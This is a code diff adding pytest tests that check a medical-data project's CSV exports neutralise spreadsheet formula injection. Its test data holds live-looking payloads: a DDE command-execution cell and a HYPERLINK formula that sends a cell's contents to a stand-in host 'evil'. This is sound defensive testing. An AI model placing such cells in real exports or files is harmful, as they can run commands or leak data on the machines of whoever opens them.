@@ -2,6 +2,7 @@
 
 import csv
 import gzip
+import io
 import json
 import random
 import subprocess
@@ -12,13 +13,16 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
+from medray import review
 from medray.corpus import pieces, rows, sources
+from medray.corpus.output import encode
 from medray.corpus.rows import Row
 from medray.corpus.sources import Columns
 from medray.data import corrections, csv_text
 from medray.data.base import Example
 from medray.data.formats import delimited, jsonl, symptom_table
 from medray.errors import DataError
+from medray.selection import tables
 
 NAMED = "Jane Canary Roe, born 1950, MRN 4711"  # what no message may repeat
 COLUMNS = Columns(("text",), "id")
@@ -145,3 +149,54 @@ def test_a_packed_file_that_is_damaged_is_a_sentence(tmp_path: Path) -> None:
 def test_a_line_without_end_is_refused_in_study_data() -> None:
     with pytest.raises(DataError, match=r"/dev/zero:1: the line is longer than 16777216 bytes"):
         list(jsonl.read(jsonl.Options(name="jsonl", path="/dev/zero")))
+
+
+# Cells that a spreadsheet would run
+
+FORMULAS = ['=HYPERLINK("http://evil","x")', "+1-1", "-2+3", "@SUM(1)", "\t=1", " =1", "＝1", "=cmd|' /C calc'!A1", "- item", "'=1", "''@x"]
+HARMLESS = ["-0.5", "+3", "-1e-05", "carcinoma", "'tis", "", "a=b", "5-HT", "'-0.5"]
+
+
+def cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def is_run(cell: str) -> bool:
+    """As a spreadsheet decides it: a number is none."""
+    try:
+        float(cell)
+    except ValueError:
+        return bool(cell.strip()) and cell.strip()[0] in "=+-@＝＋－＠"
+    return False
+
+
+def test_no_cell_of_a_table_for_people_is_a_formula() -> None:
+    table = pa.table({"id": FORMULAS, "label": FORMULAS, "labels": [[text] for text in FORMULAS], "confidence": [-0.5] * len(FORMULAS)})
+    written = cells(encode(table, "csv").decode())
+    assert not any(is_run(cell) for row in written for cell in row)
+    assert {row[3] for row in written[1:]} == {"-0.5"}  # a number stays one
+    assert [csv_text.restore_cell(row[0]) for row in written[1:]] == FORMULAS
+    board = cells(tables.to_csv([{"name": text, f"settings.{text}": text, text: -1.5, "error": None} for text in FORMULAS]))
+    assert not any(is_run(cell) for row in board for cell in row)
+    assert {cell for row in board[1:] for cell in row if cell.endswith("1.5")} == {"-1.5"}
+
+
+def test_every_text_comes_back_as_it_was() -> None:
+    rng = random.Random(3)
+    texts = FORMULAS + HARMLESS + ["".join(rng.choices("'=+-@ \t1.5ea＝\n", k=rng.randint(0, 6))) for _ in range(5000)]
+    written = [cells(csv_text.write_table(["a", "b"], [{"a": text, "b": 1}]))[1][0] for text in texts]
+    assert [csv_text.restore_cell(cell) for cell in written] == texts
+    assert written[len(FORMULAS) : len(FORMULAS) + len(HARMLESS)] == HARMLESS
+    assert not any(is_run(cell) for cell in written)
+
+
+def test_a_row_that_looks_like_a_formula_is_exported_harmless_and_corrected_by_its_own_id(tmp_path: Path) -> None:
+    path = tmp_path / "review.csv"
+    ids, label = ["=cmd()", "-2+3", "'=x", "r1"], "=HYPERLINK(1)"
+    review.export([review.Row(id=row_id, given=(label, "b"), text='=HYPERLINK("http://evil?x="&A1)') for row_id in ids], path)
+    exported = cells(path.read_text())
+    assert not any(is_run(cell) for row in exported for cell in row)
+    with path.open("w", newline="") as file:  # as a spreadsheet saves what somebody filled in
+        csv.writer(file).writerows([exported[0], *([row[0], row[2], *row[2:]] for row in exported[1:])])
+    corrected = corrections.apply([Example(row_id, "a", ("b",)) for row_id in ids], path, (label,))
+    assert [example.labels for example in corrected.examples] == [(label, "b")] * 4
